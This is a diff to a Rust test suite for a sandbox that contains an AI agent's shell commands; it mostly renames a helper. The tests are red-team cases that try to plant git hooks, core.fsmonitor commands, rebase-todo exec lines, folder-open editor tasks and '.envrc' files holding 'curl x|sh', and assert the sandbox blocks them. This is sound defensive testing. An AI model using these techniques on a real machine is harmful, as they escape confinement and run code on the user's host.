@@ -11,23 +11,8 @@ use serde_json::{json, Value};
 
 use super::fixture::*;
 
-fn sh(w: &World, script: &str) -> Output {
-    w.run(["exec", "--", "sh", "-c", script])
-}
-
 fn read(p: &Path) -> String {
     std::fs::read_to_string(p).unwrap_or_default()
-}
-
-#[track_caller]
-fn breached_if(cond: bool, what: &str, o: &Output) {
-    assert!(
-        !cond,
-        "sandbox breached: {what} (exit {:?}, stdout `{}`, stderr `{}`)",
-        o.status.code(),
-        stdout(o),
-        stderr(o)
-    );
 }
 
 #[track_caller]
@@ -70,7 +55,7 @@ fn protect_workspace_under_tmp_cannot_be_swapped_for_a_git_hook() {
             "cd .. && rm -rf ws; mkdir -p ws/.git/hooks; printf evil > ws/.git/hooks/pre-commit",
         ),
     ] {
-        let o = sh(&w, script);
+        let o = exec_sh(&w, script);
         breached_if(read(&hook).contains("evil"), what, &o);
         breached_if(
             w.base.join("ws.old").exists() || w.ws.join("git.old").exists(),
@@ -79,7 +64,7 @@ fn protect_workspace_under_tmp_cannot_be_swapped_for_a_git_hook() {
         );
     }
     // Control: ordinary work in the workspace and beside it under /tmp.
-    let o = sh(
+    let o = exec_sh(
         &w,
         "mkdir a && mv a b && echo hi > b/f && mkdir ../other && mv ../other ../other2",
     );
@@ -229,7 +214,7 @@ fn protect_agent_config_files_created_in_the_sandbox_are_quarantined() {
             .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
     );
     w.git(&w.ws, &["init", "-q"]);
-    let o = sh(
+    let o = exec_sh(
         &w,
         "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p .claude .vscode; echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; echo 'curl x|sh' > .envrc; echo /tmp/evil > .git/commondir; ln -s /tmp/evil .gitmodules; echo ok > notes.txt; exit 0",
     );
@@ -347,7 +332,7 @@ fn protect_existing_agent_config_files_resist_links_and_replacement() {
             "ln -s .git/hooks h; echo evil > h/pre-commit",
         ),
     ] {
-        let o = sh(&w, script);
+        let o = exec_sh(&w, script);
         breached_if(
             read(&w.ws.join(".mcp.json")) != "{}\n"
                 || read(&w.ws.join(".claude/settings.json")) != "{}\n"
@@ -364,7 +349,7 @@ fn protect_existing_agent_config_files_resist_links_and_replacement() {
     // A protected file with another hard link is refused up front.
     std::fs::write(w.ws.join("plain"), "x").unwrap();
     std::fs::hard_link(w.ws.join("plain"), w.ws.join(".envrc")).unwrap();
-    let o = sh(&w, "echo evil >> plain");
+    let o = exec_sh(&w, "echo evil >> plain");
     breached_if(
         o.status.success() || read(&w.ws.join(".envrc")) != "x",
         "a hard-linked .envrc",
@@ -372,7 +357,7 @@ fn protect_existing_agent_config_files_resist_links_and_replacement() {
     );
     assert!(stderr(&o).contains("hard links"), "{}", stderr(&o));
     std::fs::remove_file(w.ws.join(".envrc")).unwrap();
-    let o = sh(&w, "echo more >> plain && cat .mcp.json");
+    let o = exec_sh(&w, "echo more >> plain && cat .mcp.json");
     control(&o, "ordinary writes next to protected files");
 }
 
@@ -407,7 +392,7 @@ fn protect_a_killed_supervisor_is_caught_at_the_next_start() {
     assert!(wait_for(&w.ws.join(".mcp.json")), "the command never wrote");
     child.kill().unwrap();
     child.wait().unwrap();
-    let o = sh(&w, "true");
+    let o = exec_sh(&w, "true");
     breached_if(
         w.ws.join(".mcp.json").exists(),
         "`.mcp.json` created by a run whose supervisor was killed survived the next start",
@@ -660,7 +645,7 @@ fn protect_mcp_write_file_refuses_agent_config_files() {
 fn protect_a_created_agent_config_file_is_moved_while_the_command_runs() {
     let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
     w.git(&w.ws, &["init", "-q"]);
-    let o = sh(
+    let o = exec_sh(
         &w,
         "mkdir -p .cargo && echo 'x' > .cargo/config.toml && echo 'curl x|sh' > .envrc; \
          i=0; while [ $i -lt 100 ]; do \
@@ -675,7 +660,7 @@ fn protect_a_created_agent_config_file_is_moved_while_the_command_runs() {
     assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
     assert!(stderr(&o).contains(".envrc`"), "{}", stderr(&o));
     // Control: ordinary files made the same way stay.
-    let o = sh(&w, "mkdir -p tools && echo x > tools/config.toml && echo y > envrc && sleep 0.3 && cat tools/config.toml envrc");
+    let o = exec_sh(&w, "mkdir -p tools && echo x > tools/config.toml && echo y > envrc && sleep 0.3 && cat tools/config.toml envrc");
     control(&o, "ordinary files next to the watched names");
     assert_eq!(stdout(&o), "x\ny\n");
 }
@@ -709,7 +694,7 @@ fn protect_exec_lines_left_in_a_rebase_todo_are_quarantined() {
     // The user stopped a rebase; the agent works in the middle of it.
     assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
     let marker = w.base.join("ran-on-the-host");
-    let o = sh(
+    let o = exec_sh(
         &w,
         &format!(
             "echo 'exec touch {}' >> .git/rebase-merge/git-rebase-todo; exit 0",
@@ -728,7 +713,7 @@ fn protect_exec_lines_left_in_a_rebase_todo_are_quarantined() {
     assert!(stderr(&o).contains("`git switch main`"), "{}", stderr(&o));
     assert!(host_git(&["switch", "-q", "main"]).status.success());
     // A todo list the command writes from scratch is caught the same way.
-    let o = sh(
+    let o = exec_sh(
         &w,
         &format!(
             "mkdir -p .git/rebase-merge && printf 'x touch {}\\n' > .git/rebase-merge/git-rebase-todo; exit 0",
@@ -744,7 +729,7 @@ fn protect_exec_lines_left_in_a_rebase_todo_are_quarantined() {
     // Control: a stopped rebase the command works in (a commit, no new
     // program) survives the run, and the user can finish it.
     assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
-    let o = sh(
+    let o = exec_sh(
         &w,
         "echo fixed > a && git add a && git -c user.name=t -c user.email=t@example.invalid commit -qm fix",
     );
@@ -829,7 +814,7 @@ fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
     std::fs::create_dir_all(w.ws.join("old")).unwrap();
     std::fs::write(w.ws.join("old/.envrc"), "export A=1\n").unwrap();
     let marker = w.base.join("ran-on-the-host");
-    let o = sh(
+    let o = exec_sh(
         &w,
         &format!(
             "mkdir -p sub/deeper && cd sub && git init -q && git config core.fsmonitor 'touch {m}; false' && echo 'curl x|sh' > deeper/.envrc && echo kept > notes.txt; exit 0",
@@ -856,32 +841,8 @@ fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
     // Controls: ordinary files stay, and what was there before the run.
     assert_eq!(read(&w.ws.join("sub/notes.txt")), "kept\n");
     assert_eq!(read(&w.ws.join("old/.envrc")), "export A=1\n");
-    let o = sh(&w, "echo more >> old/notes && cat old/.envrc");
+    let o = exec_sh(&w, "echo more >> old/notes && cat old/.envrc");
     control(&o, "ordinary writes beside an existing nested .envrc");
-}
-
-/// Runs `git status` (and, with `commit`, an empty commit) on the host in
-/// `dir`, as the user would after the run.
-fn host_git(w: &World, dir: &Path, commit: bool) {
-    let mut args = vec!["status", "--short"];
-    if commit {
-        args = vec![
-            "-c",
-            "user.name=u",
-            "-c",
-            "user.email=u@x",
-            "commit",
-            "-q",
-            "--allow-empty",
-            "-m",
-            "x",
-        ];
-    }
-    let _ = std::process::Command::new("git")
-        .args(&args)
-        .current_dir(dir)
-        .env("HOME", &w.home)
-        .output();
 }
 
 /// Red team 8: the check for what a command leaves below the workspace had
@@ -922,7 +883,7 @@ fn protect_git_directories_left_anywhere_below_cannot_run_code_on_the_host() {
         marker.display()
     ));
     let script = script.join(" && ");
-    let o = sh(&w, &script);
+    let o = exec_sh(&w, &script);
     for p in places.iter().chain(&["store"]) {
         host_git(&w, &w.ws.join(p), false);
         breached_if(
@@ -952,7 +913,7 @@ fn protect_git_directories_left_anywhere_below_cannot_run_code_on_the_host() {
 fn protect_ordinary_git_use_below_the_workspace_is_left_alone() {
     let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
     w.git(&w.ws, &["init", "-q"]);
-    let o = sh(
+    let o = exec_sh(
         &w,
         "git init -q --bare --initial-branch=main remotes/r.git && mkdir -p deep/a/b/c/d && cd deep/a/b/c/d && git init -q && git remote add origin ../../../../../remotes/r.git && git config user.name u && git config user.email u@x && git config branch.main.merge refs/heads/main && git commit -q --allow-empty -m first && git push -q origin HEAD:main && git config core.worktree \"$PWD\" && cd - >/dev/null && mkdir -p node_modules/pkg/.vscode node_modules/pkg/.husky && echo '{}' > node_modules/pkg/.vscode/settings.json && echo 'npm test' > node_modules/pkg/.husky/pre-commit",
     );
@@ -991,7 +952,7 @@ fn protect_agent_config_already_below_the_workspace_cannot_be_rewritten() {
         std::thread::sleep(std::time::Duration::from_millis(30));
     };
     make();
-    let o = sh(
+    let o = exec_sh(
         &w,
         "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > sub/.vscode/tasks.json; echo 'curl x | sh' >> lib/x/y/.envrc; echo ok > notes.txt",
     );
@@ -1004,7 +965,7 @@ fn protect_agent_config_already_below_the_workspace_cannot_be_rewritten() {
     assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
     // Control: a run that does not touch them leaves them.
     make();
-    let o = sh(
+    let o = exec_sh(
         &w,
         "cat sub/.vscode/tasks.json lib/x/y/.envrc; echo more >> notes.txt",
     );
@@ -1027,7 +988,7 @@ fn protect_a_repository_behind_a_symlinked_folder_cannot_run_code() {
         extra.display()
     ));
     let marker = w.base.join("ran-on-the-host");
-    let o = sh(
+    let o = exec_sh(
         &w,
         &format!(
             "mkdir -p {e}/p/q/r/s && cd {e}/p/q/r/s && git init -q && git config core.fsmonitor 'touch {m}; false' && ln -s {e}/p/q/r/s {ws}/link",
@@ -1128,12 +1089,12 @@ fn protect_the_supervisor_never_runs_a_git_the_command_wrote() {
 fn protect_agent_config_staged_in_node_modules_cannot_be_moved_out_later() {
     let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
     w.git(&w.ws, &["init", "-q"]);
-    let first = sh(
+    let first = exec_sh(
         &w,
         "mkdir -p node_modules/z/.vscode && echo 'curl x | sh' > node_modules/z/.envrc && echo '{}' > node_modules/z/.vscode/tasks.json",
     );
     control(&first, "installing a package that ships editor files");
-    let o = sh(&w, "mv node_modules/z sub");
+    let o = exec_sh(&w, "mv node_modules/z sub");
     breached_if(
         w.ws.join("sub/.envrc").exists() || w.ws.join("sub/.vscode/tasks.json").exists(),
         "agent-config files staged in node_modules were renamed out to a folder a shell enters",
